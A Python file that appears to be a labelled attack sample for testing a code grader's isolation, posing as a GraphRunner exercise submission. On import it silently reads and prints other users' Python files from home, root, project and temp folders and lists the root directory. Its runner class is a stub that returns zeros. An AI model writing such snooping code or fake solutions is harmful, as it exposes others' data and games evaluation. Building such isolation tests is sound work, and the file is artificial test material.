# attack: read
# base: wrong_all
# outcome: failed: parity, bucket_choice, clone, padding, no_recapture
"""Lists and prints other people's submissions: mine/, homes, temporary folders."""

import glob
import os
import pathlib
import sys
import tempfile

import torch

def project():
    """The project's folder, told by where the given library was loaded from."""
    return pathlib.Path(sys.modules["exercises.p17.cpu_graph"].__file__).resolve().parents[2]


def attack():
    for pattern in (f"{project()}/mine/*.py", "/home/*/*.py", "/root/*.py", f"{tempfile.gettempdir()}/*/*.py"):
        for file in glob.glob(pattern)[:3]:
            with open(file) as opened:
                print(opened.read()[:100])
    print(os.listdir("/")[:50])


if "tried" not in os.environ:
    os.environ["tried"] = "1"
    try:
        attack()
    except BaseException:
        pass


class GraphRunner:
    def __init__(self, fn, buckets, hidden, dtype=torch.float32):
        self.fn = fn
        self.buckets = list(buckets)
        self.static_in = torch.zeros(1, hidden, dtype=dtype)
        self.static_out = self.static_in
        self.graphs = {}
        self.stats = {"replays": 0, "eager": 0, "last_bucket": None}

    def capture(self):
        self.stats["last_bucket"] = 0

    def run(self, x, force_eager=False):
        self.stats["replays"] += 1
        return torch.zeros_like(x)
